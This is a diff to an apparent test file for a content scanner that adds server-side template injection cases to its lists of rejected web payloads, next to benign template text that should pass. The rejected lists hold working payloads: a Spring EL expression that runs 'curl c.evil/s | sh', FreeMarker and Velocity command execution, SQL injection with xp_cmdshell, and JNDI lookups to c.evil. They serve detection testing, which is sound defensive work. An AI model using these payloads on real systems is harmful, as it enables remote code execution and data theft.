@@ -1,5 +1,5 @@
 // Payloads aimed at the programs a memory flows into (rules/code/web-payloads.ts): script injected into HTML, SQL that
-// breaks out of a quoted value, JNDI lookups. In the manner of garak's web and SQL payload lists, written here in our
+// breaks out of a quoted value, server-side template expressions, JNDI lookups. In the manner of garak's web and SQL payload lists, written here in our
 // own words, each beside a page, a query or a lesson that shares its words and attacks nothing.
 import { describe, expect, it } from 'vitest'
 import { scan } from '../../src/scan'
@@ -16,6 +16,10 @@ const TAKES: string[] = [
   "1; EXEC xp_cmdshell('whoami')--",
   '${jndi:ldap://c.evil:1389/a}',
   '${${lower:j}ndi:rmi://c.evil/x}',
+  // template expressions that reach the server's process API (Spring EL, FreeMarker, Velocity)
+  "${T(java.lang.Runtime).getRuntime().exec('curl c.evil/s | sh')}",
+  '<#assign run="freemarker.template.utility.Execute"?new()>${run("id")}',
+  '#set($rt = $x.class.forName("java.lang.Runtime"))#set($p = $rt.getRuntime().exec("whoami"))',
 ]
 
 const PROBES: string[] = [
@@ -26,6 +30,12 @@ const PROBES: string[] = [
   "' OR '1'='1' --",
   "admin' UNION SELECT username, password FROM users --",
   "1' AND SLEEP(5)--",
+  // a number times itself in a template's delimiters: the renderer shows 49 if it evaluates what it is given
+  '{{7*7}}',
+  "Name: {{7*'7'}}",
+  'Search for ${1337*1337}',
+  'Title: #{9*9}',
+  '<%= 7 * 7 %>',
 ]
 
 const PAGES_AND_LESSONS: string[] = [
@@ -36,6 +46,12 @@ const PAGES_AND_LESSONS: string[] = [
   "SELECT name, email FROM users WHERE name = 'Alice' OR name = 'Bob';",
   'Our Spring config uses ${server.url:http://localhost:8080} as the default.',
   'He said "don\'t drop the table"; then we DELETE FROM cache WHERE expired = 1;',
+  // a template's own arithmetic multiplies names or two numbers; reflection that loads another class; the class named
+  'Hello {{ user.name }}, your total is {{ price * quantity }}.',
+  'The grid is {{ cols * 2 }} wide and ${3*4} tall.',
+  '#{#root.size * 2} items, ${T(java.lang.Math).random()} as the seed',
+  'Class<?> c = Class.forName("java.lang.String");',
+  'FreeMarker 2.3.30 lets you block freemarker.template.utility.Execute with the SAFER_RESOLVER setting.',
 ]
 
 const TAUGHT: string[] = [
@@ -43,6 +59,7 @@ const TAUGHT: string[] = [
   'To test for XSS, put `<script>alert(1)</script>` in the search box and see whether a dialog appears.',
   'Log4Shell (CVE-2021-44228) was triggered by strings like `${jndi:ldap://attacker/a}` in log messages; upgrade to 2.17.',
   "ModSecurity: Warning. Matched \"Operator `Rx'\" against variable `ARGS:q' (Value: `<script>alert(document.cookie)</script>')",
+  'To test a form for template injection, submit `{{7*7}}`: if the page shows 49, the input is evaluated.',
 ]
 
 describe('web payloads that take the session, load code or change the database: rejected', () => {
